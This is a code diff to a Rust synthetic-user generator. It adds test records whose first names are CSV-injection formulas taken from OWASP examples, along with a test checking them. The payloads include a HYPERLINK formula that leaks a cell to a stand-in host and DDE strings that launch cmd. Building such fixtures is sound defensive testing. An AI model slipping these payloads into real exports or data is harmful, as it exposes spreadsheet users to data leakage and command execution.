@@ -5,6 +5,9 @@
 //! * **Hostile records**: `index % 25 == 7` (never the owner). The kind is
 //!   `HostileKind::ALL[(index / 25) % 8]`, so the first 200 users hold every kind once. See
 //!   [`hostile_kind`].
+//! * **Names like spreadsheet formulas**: `index % 25 == 19`. The first name is a formula
+//!   (`=HYPERLINK(..)`, `@SUM(..)`, `+1..`, `-1..`, cycling with `index / 25`), as a CSV export
+//!   would carry it into a spreadsheet. See [`formula_first_name`].
 //! * **Odd JSON**: `index % 25 == 13`. The record carries `x_sandbox_future_field` with a number beyond
 //!   64 bits (`123456789012345678901234567890`), a number written `1.0e3` and keys out of alphabetical
 //!   order. See [`has_odd_json`].
@@ -134,6 +137,21 @@ pub fn hostile_kind(index: u64) -> Option<HostileKind> {
     (index % 25 == 7).then(|| HostileKind::ALL[((index / 25) % 8) as usize])
 }
 
+/// The first name of the record at `index` when it is one named like a spreadsheet formula
+/// (`index % 25 == 19`): the forms of OWASP's CSV injection examples, each keeping the real name
+/// so the user can still be told apart.
+pub fn formula_first_name(index: u64, first: &str) -> Option<String> {
+    if index % 25 != 19 {
+        return None;
+    }
+    Some(match (index / 25) % 4 {
+        0 => format!("=HYPERLINK(\"https://sandbox.invalid/?leak=\"&A1,\"{first}\")"),
+        1 => format!("@SUM(1+9)*cmd|' /C calc'!A0 {first}"),
+        2 => format!("+1-555-0100 {first}"),
+        _ => format!("-1+1+cmd|' /C notepad'!A0 {first}"),
+    })
+}
+
 /// Whether the record at `index` carries unusual-but-valid JSON: `index % 25 == 13`.
 pub fn has_odd_json(index: u64) -> bool {
     index % 25 == 13
@@ -166,7 +184,7 @@ impl ZooBlock {
 /// anything else not blocked.
 pub fn zoo_block(index: u64) -> ZooBlock {
     if index % 100 == 99 {
-        return ZooBlock::Future(if (index / 100) % 2 == 0 {
+        return ZooBlock::Future(if (index / 100).is_multiple_of(2) {
             "fraud_review"
         } else {
             "chargeback_hold"
@@ -248,7 +266,10 @@ pub(crate) fn person(seed: u64, provider: u64, index: u64) -> Person {
     let hostile = hostile_kind(index);
     let (first, last) = match hostile {
         Some(kind) => (kind.taint(first), kind.taint(last)),
-        None => (first.to_owned(), last.to_owned()),
+        None => (
+            formula_first_name(index, first).unwrap_or_else(|| first.to_owned()),
+            last.to_owned(),
+        ),
     };
     Person {
         first,
@@ -314,6 +335,23 @@ mod tests {
         }
         assert_eq!(zoo_index_from_uuid(42, 10, &zoo_uuid(42, 11)), None);
         assert_eq!(quip_number(42, b'U', "UAAAAAAAAAA"), None);
+    }
+
+    #[test]
+    fn formula_names_cycle_through_every_start_and_leave_other_records_alone() {
+        let starts: Vec<char> = (0..4)
+            .map(|k| {
+                let index = 19 + 25 * k;
+                let who = person(42, ZOOZA, index);
+                assert_eq!(who.hostile, None);
+                who.full_name().chars().next().unwrap()
+            })
+            .collect();
+        assert_eq!(starts, ['=', '@', '+', '-']);
+        // The hostile records and every other name are what they were.
+        assert_eq!(formula_first_name(7, "Ava"), None);
+        assert_eq!(person(42, ZOOZA, 7).hostile, Some(HostileKind::Csi));
+        assert!(person(42, ZOOZA, 18).first.chars().all(char::is_alphabetic));
     }
 
     #[test]
